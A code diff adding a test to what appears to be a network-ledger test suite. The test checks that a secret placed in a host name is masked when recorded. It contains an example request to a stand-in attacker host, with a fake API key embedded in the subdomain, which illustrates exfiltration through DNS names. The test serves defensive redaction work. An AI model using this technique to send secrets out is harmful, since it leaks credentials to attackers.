@@ -114,6 +114,17 @@ test("streamed bodies count as far as they came, and a body that breaks off is a
   ]);
 });
 
+test("a secret that a task puts into a host name is not in the ledger", async () => {
+  const ledger = new LedgerCollector();
+  const send = ledger.observe(async () => response(200));
+  await send(request("https://Sk-1234567890.attacker.example/"), quiet);
+  await send(request("https://short.example/"), quiet);
+  expect(ledger.end(["Sk-1234567890", "short"])?.origins.map(({ origin }) => origin)).toEqual([
+    "https://***.attacker.example",
+    "https://short.example",
+  ]);
+});
+
 test("a call without a response at the end of the execution has failed, and later events change nothing", async () => {
   const ledger = new LedgerCollector();
   const { promise, resolve } = Promise.withResolvers<HttpResponse>();
